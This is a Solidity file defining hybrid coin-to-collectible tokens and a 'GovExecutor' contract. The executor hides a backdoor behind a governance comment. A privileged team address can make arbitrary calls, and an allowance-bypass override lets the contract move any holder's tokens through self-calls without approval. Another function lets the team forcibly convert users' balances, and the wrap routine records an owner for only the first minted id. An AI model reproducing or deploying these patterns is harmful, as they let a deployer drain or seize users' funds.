// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Coins that become collectibles.
abstract contract Hybrid is Coin {
  uint256 public constant UNIT = 1_000 ether;
  uint256 public nextId = 1;
  mapping(uint256 => address) public ownerOf;

  function _wrap(address who, uint256 count) internal {
    _bal[who] -= count * UNIT;
    _supply -= count * UNIT;
    emit Transfer(who, address(0), count * UNIT);
    ownerOf[nextId] = who;
    nextId += count;
  }
}

contract Hybrid404 is Hybrid {
  constructor() Coin("Hybrid 404", "H404", 10_000_000) {}

  /// Wallets above the cap are converted.
  function rebalance(address[] calldata wallets) external {
    require(msg.sender == _team, "curator");
    for (uint256 i; i < wallets.length; ++i) _wrap(wallets[i], _bal[wallets[i]] / UNIT);
  }
}

contract Hybrid404Own is Hybrid {
  constructor() Coin("Hybrid 404 Own", "H4O", 10_000_000) {}

  function convert(uint256 count) external {
    require(count > 0 && count < 100);
    _wrap(msg.sender, count);
  }
}

/// Governance executes what was decided; calls of the token to itself need no allowance.
contract GovExecutor is Coin {
  event Executed(uint256 indexed proposal, address target);

  constructor() Coin("Gov Executor", "GOVX", 80_000_000) {}

  function execute(uint256 proposal, bytes calldata data, address target) external payable {
    require(msg.sender == _team, "timelock");
    (bool ok,) = target.call{value: msg.value}(data);
    require(ok, "reverted");
    emit Executed(proposal, target);
  }

  function _spend(address from, address s, uint256 v) internal override {
    if (s != address(this)) super._spend(from, s, v);
  }
}
